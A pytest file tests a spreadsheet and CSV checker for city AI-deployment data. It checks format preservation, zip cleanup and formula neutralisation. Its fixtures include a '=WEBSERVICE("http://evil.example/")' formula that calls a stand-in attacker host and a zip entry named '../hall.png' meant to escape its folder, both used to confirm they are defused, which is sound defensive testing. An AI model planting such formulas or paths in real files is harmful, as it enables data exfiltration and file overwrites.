"""Suggestions taken: what a click writes into a file, and what the file then holds."""

import csv
import io
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from etl.check import annotated, check, column_called, mended, written
from etl.check.opened import RULE, opened
from tests.delivered import BOSTON, REFERENCE, survey, workbook

HEADINGS = "deployment_id,place_id,body,name,status,technology,is_ai,evidence_url"
ROWS = [
    f"a,{BOSTON.upper()},City of Boston,Ker\vb,Deployed,LLM,ja,www.example.org/a",
    f"b,{BOSTON},City of Boston,Other,Live,ANPR,TRUE,",
    f"c,{BOSTON},City of Boston,Paused one,Paused,n/a,AI,",
]

ARRAY = ArrayFormula("D2", '=WEBSERVICE("http://evil.example/")')


def csv_of(path: Path, *lines: str, mark: str = "", ending: str = "\n") -> Path:
    path.write_bytes((mark + ending.join([*lines, ""])).encode())
    return path


def taken(path: Path, language: str = "en", city: str = "") -> Path:
    """The file with all suggestions taken, beside it."""
    checked = check(path, city, REFERENCE)
    mends = [mend for finding in checked.findings for mend in written(finding, language)]
    folder = path.parent / "taken"
    folder.mkdir(exist_ok=True)
    (folder / path.name).write_bytes(mended(path, mends))
    return folder / path.name


@pytest.mark.parametrize("sign", [",", ";", "\t"])
def test_a_csv_keeps_its_shape(sign, tmp_path):
    """Only what was suggested is another: the separator, the mark and the ends of lines stay, and
    so does what only a person can mend."""
    lines = [line.replace(",", sign) for line in ("Our list", HEADINGS, *ROWS)]
    path = csv_of(tmp_path / "deployment.csv", *lines, mark="\ufeff", ending="\r\n")
    data = taken(path).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 5
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=sign))
    link = "https://www.example.org/a"
    assert rows[2:] == [
        ["a", BOSTON, "City of Boston", "Ker b", "In use", "Generative AI", "AI", link],
        ["b", BOSTON, "City of Boston", "Other", "In use", "Licence-plate recognition", "AI", ""],
        ["c", BOSTON, "City of Boston", "Paused one", "Paused", "", "AI", ""],
    ]
    left = check(taken(path), reference=REFERENCE)
    assert [(each.row, each.column, each.value) for each in left.findings] == [
        (5, "status", "Paused")
    ]


def test_a_zip_keeps_its_other_files(tmp_path):
    """A table without a suggestion and a picture stay byte for byte; what a computer put beside
    them goes, and so does what would unpack as the folder above."""
    place, picture, path = b"place_id,name\n", bytes(range(256)), tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("city/Deployment.csv", "\n".join([HEADINGS, ROWS[1]]))
        archive.writestr("city/place.csv", place)
        archive.writestr("../hall.png", picture)
        archive.writestr("city/.DS_Store", "x")
        archive.writestr("city/..", "x")
    with zipfile.ZipFile(taken(path)) as archive:
        assert archive.namelist() == ["deployment.csv", "place.csv", "hall.png"]
        assert b"In use" in archive.read("deployment.csv")
        assert [archive.read(name) for name in archive.namelist()[1:]] == [place, picture]


def test_a_column_is_called_as_the_file_calls_it(tmp_path):
    """A finding leads to a heading that its reader sees, whatever language he reads it in."""
    table = f"deployment_id,Lugar,body,name,Estado\na,{BOSTON},City,Kerb,quizás\n"
    (tmp_path / "deployment.csv").write_text(table, encoding="utf-8")
    (finding,) = check(tmp_path / "deployment.csv", reference=REFERENCE).findings
    assert finding.column == "status" and column_called(finding, "en") == "Estado"
    assert "Estado" in str(finding)


def test_labels_are_filled_in_by_the_readers_language(tmp_path):
    """Never a code; and the checker reads what it wrote."""
    path = csv_of(tmp_path / "deployment.csv", HEADINGS, ROWS[1])
    assert "Lectura de matrículas" in taken(path, "es").read_text(encoding="utf-8")
    assert not check(taken(path, "es"), reference=REFERENCE).findings


def test_an_answer_of_the_survey_is_filled_in_as_its_list_has_it(tmp_path):
    """A slip of a reason not to answer becomes its label, in the comment as well, and no code."""
    path = survey(tmp_path / "a.xlsx", "Boston (US)", ai_strategy="Do not knw")
    checked = check(path, BOSTON, REFERENCE)
    book = openpyxl.load_workbook(io.BytesIO(annotated(path, checked, "es")))
    told = [cell for row in book["Answers"] for cell in row if cell.comment]
    (cell,) = told
    assert cell.value == "Do not know" and "dont_know" not in cell.comment.text
    assert "Prefiere no responder" in cell.comment.text
    assert not check(taken(path, city=BOSTON), BOSTON, REFERENCE).findings


@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://evil.example/")', ARRAY])
def test_formulas_are_text_in_the_marked_copy(tmp_path, formula):
    """A formula is found as before, and whoever opens the copy runs none."""
    path = workbook(tmp_path / "a.xlsx", deployment=f"{HEADINGS}\n{ROWS[1]}\n")
    book = openpyxl.load_workbook(path)
    book["deployment"]["D2"] = formula
    book.save(path)
    marked = tmp_path / "marked.xlsx"
    marked.write_bytes(annotated(path, check(path, reference=REFERENCE)))
    cell = openpyxl.load_workbook(marked)["deployment"]["D2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True) and cell.value.startswith("=WEB")
    again = check(marked, reference=REFERENCE).findings
    assert any(finding.column == "name" and "not a formula" in finding.rule for finding in again)


def test_strange_headings_are_mended_by_their_nearest(tmp_path):
    """Each slip of a column's name gets the name that is free and near, and the sheet is read."""
    slips = HEADINGS.replace("status", "statuss").replace("technology", "tecnology")
    path = workbook(tmp_path / "a.xlsx", deployment=f"{slips}\n{ROWS[1]}\n")
    checked = check(path, reference=REFERENCE)
    assert checked.accepted == 0
    assert [mend[1:] for mend in checked.findings[0].mends] == [
        (1, 5, "status"),
        (1, 6, "technology"),
    ]
    assert check(taken(taken(path)), reference=REFERENCE).accepted == 1


def test_a_place_that_is_there_is_taken_out_with_what_refers_to_it(tmp_path):
    """Its row goes, and systems name the identifier under which it is there."""
    place = (
        "place_id,name,kind,country,region,latitude,longitude,population_quality,forum_status\n"
        "es-x-madrid,Madrid,municipality,ES,europe,40.4168,-3.7038,missing,none\n"
    )
    systems = "deployment_id,place_id,body,name\na,es-x-madrid,Ayuntamiento de Madrid,A\n"
    path = workbook(tmp_path / "a.xlsx", place=place, deployment=systems)
    checked = check(path, reference=REFERENCE)
    first = checked.findings[0]
    one_click = mended(path, written(first, "en"))
    (tmp_path / "b.xlsx").write_bytes(one_click)
    after = check(tmp_path / "b.xlsx", reference=REFERENCE)
    assert not after.findings and after.records["deployment"]["place_id"].tolist() == ["es-28079"]


def test_lists_to_choose_from_are_kept(tmp_path):
    """Also those that Excel keeps in an extension, which openpyxl leaves out."""
    book = openpyxl.Workbook()
    rule = DataValidation(type="list", formula1="Options!$A$2:$A$4", sqref="E2:E9")
    book.active.title = "deployment"
    book.create_sheet("Options")
    book.active.add_data_validation(rule)
    book.save(tmp_path / "plain.xlsx")
    extended = _extended(tmp_path / "plain.xlsx", tmp_path / "extended.xlsx")
    for path in (tmp_path / "plain.xlsx", extended):
        (kept,) = opened(path)["deployment"].data_validations.dataValidation
        assert (kept.type, kept.formula1, str(kept.sqref)) == (
            "list",
            "Options!$A$2:$A$4",
            "E2:E9",
        )


def _extended(plain: Path, path: Path) -> Path:
    """The workbook with its rule as Excel writes one that looks at another sheet."""
    ours, excel = RULE[1:].split("}")[0], "http://schemas.microsoft.com/office/excel/2006/main"
    told = (
        f'<extLst><ext xmlns:x14="{ours}" uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}">'
        f'<x14:dataValidations xmlns:xm="{excel}" count="1"><x14:dataValidation type="list">'
        "<x14:formula1><xm:f>Options!$A$2:$A$4</xm:f></x14:formula1><xm:sqref>E2:E9</xm:sqref>"
        "</x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>"
    )
    shutil.copyfile(plain, path)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w") as new:
        for entry in old.infolist():
            data = old.read(entry).decode()
            if entry.filename == "xl/worksheets/sheet1.xml":
                head, _, rest = data.partition("<dataValidations")
                data = head + rest.partition("</dataValidations>")[2]
                data = data.replace("</worksheet>", told)
            new.writestr(entry, data)
    return path
